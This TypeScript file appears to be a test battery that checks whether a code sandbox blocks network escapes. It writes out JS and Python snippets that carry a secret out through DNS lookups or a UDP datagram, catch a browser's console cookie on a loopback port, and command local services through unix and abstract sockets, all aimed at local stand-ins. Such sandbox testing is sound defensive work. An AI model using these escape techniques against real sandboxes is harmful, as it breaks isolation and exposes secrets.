import { createSocket } from 'node:dgram';
import { once } from 'node:events';
import { connect, createServer } from 'node:net';
import { networkInterfaces } from 'node:os';
import { join } from 'node:path';
import { type Attempt, runBattery } from './battery.ts';
import { aimAt, asked, declared, egress, get, listen, PUBLIC, tcp } from './stand-ins.ts';

const attempts: Attempt[] = [
  {
    name: 'connect to a service of this machine',
    dimension: 'network',
    aim: (scene) => aimAt(scene, '127.0.0.1', (port) => tcp('127.0.0.1', port)),
    grant: (scene) => declared(scene, '127.0.0.1'),
  },
  {
    // Browsers send the cookies of 127.0.0.1, the console's session among them, to every port of it.
    name: 'be a page of this machine to which a browser brings the cookie of the console',
    dimension: 'network',
    aim: async () => {
      const port = await freePort();
      return {
        code: `await new Promise((resolve, reject) =>
          require('node:http').createServer((req, res) => res.end()).on('error', reject).listen(${port}, '127.0.0.1', resolve))`,
        happened: async () => {
          const socket = connect(port, '127.0.0.1');
          const isReached = await once(socket, 'connect').then(
            () => true,
            () => false,
          );
          socket.destroy();
          return isReached;
        },
      };
    },
  },
  {
    name: 'connect to it on another address of loopback',
    dimension: 'network',
    aim: (scene) => aimAt(scene, '127.9.8.7', (port) => tcp('127.9.8.7', port)),
    grant: (scene) => declared(scene, '127.9.8.7'),
  },
  {
    name: 'connect to it over IPv6',
    dimension: 'network',
    aim: (scene) => aimAt(scene, '::1', (port) => tcp('::1', port)),
    grant: (scene) => declared(scene, '[::1]'),
  },
  {
    name: 'connect with no system call of the socket library in between',
    dimension: 'network',
    language: 'python',
    aim: async (scene) => {
      const listener = await listen(scene, '127.0.0.1');
      return {
        code: `import socket\nresult = socket.create_connection(('127.0.0.1', ${listener.port}), 5).recv(100).decode()`,
        happened: () => listener.count() > 0,
      };
    },
  },
  {
    name: 'fetch from an undeclared host',
    dimension: 'network',
    aim: (scene) => aimAt(scene, PUBLIC, (port) => get(`http://undeclared.test:${port}/`)),
    grant: (scene) => declared(scene, 'undeclared.test'),
  },
  {
    name: 'carry a secret out in a name to be resolved',
    dimension: 'network',
    aim: async ({ nonce }) => ({
      code: `require('node:dns').lookup('${nonce}.test', () => {});
        await fetch('http://${nonce}.test/').catch(() => {})`,
      happened: () => asked.includes(`${nonce}.test`),
    }),
    grant: ({ nonce }) => ({ permissions: { net: [`${nonce}.test:80`] } }),
  },
  {
    name: 'carry a secret out in a datagram',
    dimension: 'network',
    language: 'python',
    aim: async ({ nonce, resources }) => {
      const socket = createSocket('udp4');
      let received = '';
      socket.on('message', (message) => void (received += message.toString()));
      socket.bind(0, '127.0.0.1');
      await once(socket, 'listening');
      resources.defer(() => void socket.close());
      return {
        code: `import socket
socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'${nonce}', ('127.0.0.1', ${socket.address().port}))`,
        happened: () => received.includes(nonce),
        comesLate: true,
      };
    },
  },
  {
    name: 'ask a name server itself',
    dimension: 'network',
    aim: async ({ nonce, resources }) => {
      const socket = createSocket('udp4');
      let received = '';
      socket.on('message', (message) => void (received += message.toString('latin1')));
      socket.bind(0, '127.0.0.1');
      await once(socket, 'listening');
      resources.defer(() => void socket.close());
      return {
        code: `const { Resolver } = require('node:dns').promises;
          const resolver = new Resolver({ timeout: 200, tries: 1 });
          resolver.setServers(['127.0.0.1:${socket.address().port}']);
          await resolver.resolve4('${nonce}.test')`,
        happened: () => received.includes(nonce),
        comesLate: true,
      };
    },
  },
  {
    name: 'listen where others of this machine can connect',
    dimension: 'network',
    aim: () => ({
      code: `return new Promise((resolve, reject) => {
        const server = require('node:net').createServer().on('error', reject);
        server.listen(0, '127.0.0.1', () => resolve(server.address().port));
      })`,
      happened: async ({ value }) => {
        if (typeof value !== 'number') return false;
        const socket = connect(value, '127.0.0.1');
        const [outcome] = await Promise.race([
          once(socket, 'connect').then(() => [true]),
          once(socket, 'error').then(() => [false]),
        ]).catch(() => [false]);
        socket.destroy();
        return outcome === true;
      },
    }),
  },
  {
    name: 'command a service through its unix socket',
    dimension: 'network',
    aim: async (scene) => {
      const path = join(scene.outside, 'service.sock');
      const listener = await listen(scene, { path });
      return {
        code: `return new Promise((resolve, reject) => require('node:net').connect('${path}')
          .on('error', reject).on('data', (chunk) => resolve(String(chunk))))`,
        happened: () => listener.count() > 0,
      };
    },
    grant: ({ outside }) => ({ permissions: { fs: { read: [], write: [join(outside, 'service.sock')] } } }),
  },
  {
    name: 'command it through a directory granted for reading',
    dimension: 'network',
    base: ({ outside }) => ({ permissions: { fs: { read: [outside], write: [] } } }),
    aim: async (scene) => {
      const path = join(scene.outside, 'service.sock');
      const listener = await listen(scene, { path });
      return {
        code: `return new Promise((resolve, reject) => require('node:net').connect('${path}')
          .on('error', reject).on('data', (chunk) => resolve(String(chunk))))`,
        happened: () => listener.count() > 0,
      };
    },
    grant: ({ outside }) => ({ permissions: { fs: { read: [], write: [join(outside, 'service.sock')] } } }),
  },
  {
    name: 'command it so with the right to start programs',
    dimension: 'network',
    base: ({ outside }) => ({ permissions: { fs: { read: [outside], write: [] }, exec: true } }),
    aim: async (scene) => {
      const path = join(scene.outside, 'service.sock');
      const listener = await listen(scene, { path });
      return {
        code: `return new Promise((resolve, reject) => require('node:net').connect('${path}')
          .on('error', reject).on('data', (chunk) => resolve(String(chunk))))`,
        happened: () => listener.count() > 0,
      };
    },
    grant: ({ outside }) => ({
      permissions: { fs: { read: [], write: [join(outside, 'service.sock')] }, exec: true },
    }),
  },
  {
    name: 'command it so with a network permission',
    dimension: 'network',
    base: ({ outside }) => ({
      permissions: { fs: { read: [outside], write: [] }, net: ['declared.test:1'] },
    }),
    aim: async (scene) => {
      const path = join(scene.outside, 'service.sock');
      const listener = await listen(scene, { path });
      return {
        code: `return new Promise((resolve, reject) => require('node:net').connect('${path}')
          .on('error', reject).on('data', (chunk) => resolve(String(chunk))))`,
        happened: () => listener.count() > 0,
      };
    },
    grant: ({ outside }) => ({
      permissions: { fs: { read: [], write: [join(outside, 'service.sock')] }, net: ['declared.test:1'] },
    }),
  },
  {
    name: 'reach a service through its abstract socket',
    dimension: 'network',
    language: 'python',
    base: () => ({ permissions: { exec: true } }),
    aim: async (scene) => {
      const listener = await listen(scene, { path: `\0${scene.nonce}` });
      return {
        code: `import socket
service = socket.socket(socket.AF_UNIX); service.connect('\\0${scene.nonce}'); result = service.recv(100).decode()`,
        happened: () => listener.count() > 0,
      };
    },
  },
];

const hasIpv6 = networkInterfaces()['lo']?.some(({ family }) => family === 'IPv6') === true;
/** A port of loopback that nobody listens on. */
async function freePort(): Promise<number> {
  const server = createServer().listen(0, '127.0.0.1');
  await once(server, 'listening');
  const address = server.address();
  server.close();
  await once(server, 'close');
  return typeof address === 'object' && address !== null ? address.port : 0;
}

await runBattery(hasIpv6 ? attempts : attempts.filter(({ name }) => !name.includes('IPv6')), { egress });
